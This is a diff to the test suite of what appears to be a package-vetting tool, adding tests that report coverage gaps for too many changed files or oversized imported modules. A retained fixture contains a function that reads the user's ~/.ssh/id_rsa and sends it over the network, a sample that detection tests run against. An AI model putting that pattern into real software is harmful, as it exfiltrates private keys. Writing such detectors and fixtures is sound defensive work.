@@ -1,12 +1,12 @@
-"""What a change could have touched is walked, whatever stands between it and the place where it shows."""
+"""An update's files are walked with what they import, as the whole version does, whatever did not change."""
 
 import pytest
 from source_lab import Version
 
+from beartrap.model.coverage import Gap
 from beartrap.vet.behaviour import Behaviour
-from beartrap.vet.source.touched import changed_rows, touched
-from beartrap.vet.source.walk import parse
-from beartrap.vet.source_packages import PACKAGES
+from beartrap.vet.source import linking
+from beartrap.vet.source_packages import PACKAGES, ROOTS
 
 CLIENT = """\
 import os
@@ -31,60 +31,6 @@ def run():
     with open(os.path.expanduser("~/.ssh/id_rsa")) as key:
         return Client("").send(key.read())
 """
-
-
-def names(text: str, before: str, language: str = "python") -> set[str] | None:
-    module = parse(language, text)
-    found = touched(module, text.split("\n"), before.split("\n"))
-    if found is None:
-        return None
-    return {node.name for node in _functions(module.body) if id(node) in found}
-
-
-def _functions(item):
-    from beartrap.vet.source import tree
-
-    if isinstance(item, tree.Function):
-        yield item
-    if isinstance(item, list | tuple):
-        for inner in item:
-            yield from _functions(inner)
-    elif isinstance(item, tree.Node):
-        for slot in type(item).__slots__:
-            yield from _functions(getattr(item, slot))
-
-
-def test_a_changed_function_its_callers_and_no_others():
-    assert names(CLIENT.replace("return body", "return dict(body)"), CLIENT) == {"__init__", "send", "login", "run"}
-
-
-def test_nothing_is_touched_where_nothing_changed():
-    assert names(CLIENT, CLIENT) == set()
-    assert names(CLIENT + "\n# a note\n", CLIENT) == set()
-
-
-def test_a_constant_touches_what_names_it():
-    text = CLIENT + "\ndef where():\n    return HOST\n"
-    assert names(text.replace("api.vendor", "api.other"), text) == {"where"}
-
-
-def test_what_is_taken_away_touches_where_it_stood():
-    guarded = CLIENT.replace("    return str(value)", "    if value:\n        raise ValueError\n    return str(value)")
-    assert "describe" in names(CLIENT, guarded)
-
-
-def test_a_method_that_makes_the_object_is_called_by_its_class():
-    assert "run" in names(CLIENT.replace("self.token = token", "self.token = token.strip()"), CLIENT)
-
-
-def test_code_made_by_a_tool_is_touched_everywhere():
-    line = "var a=1;" * 400
-    assert names(line + "b()", line, "javascript") is None
-
-
-def test_rows_are_those_that_differ():
-    assert changed_rows(["a", "x", "c"], ["a", "b", "c"]) == (frozenset({1, 2, 3}), ["b"])
-    assert changed_rows(["a", "b", "c"], ["a", "b"]) == (frozenset({3}), [])
 
 
 def new_in(old: dict[str, str], new: dict[str, str]) -> set[str]:
@@ -143,3 +89,21 @@ def test_a_module_that_sleeps_is_walked_when_it_is_first_imported():
     version = Version(new, changed=changed, trusted=Version(old, changed=changed))
     found = [seen for one in PACKAGES for seen in one.look(version) if isinstance(seen, Behaviour)]
     assert any(one.id == "chain.environment-to-network" and one.when.name == "IMPORT" for one in found)
+
+
+def gaps(version: Version) -> list[Gap]:
+    return [seen for one in PACKAGES for seen in one.look(version) if isinstance(seen, Gap)]
+
+
+def test_changed_files_beyond_the_bound_are_told():
+    one = "from .a import x\nimport subprocess\nsubprocess.run(['true'])\n"
+    few = {f"pkg/m{number}.py": one for number in range(ROOTS)}
+    assert not gaps(Version({"pkg/a.py": "x = 1\n", **few}))
+    assert gaps(Version({"pkg/a.py": "x = 1\n", **few, "pkg/more.py": one}))
+
+
+def test_an_imported_file_that_is_too_large_is_told():
+    large = "x = 1\n" * (linking.MODULE_BYTES // 6 + 1)
+    root = "from . import a\nimport subprocess\nsubprocess.run([a.x])\n"
+    assert gaps(Version({"pkg/__init__.py": root, "pkg/a.py": large}))
+    assert not gaps(Version({"pkg/__init__.py": root, "pkg/a.py": large[:600]}))
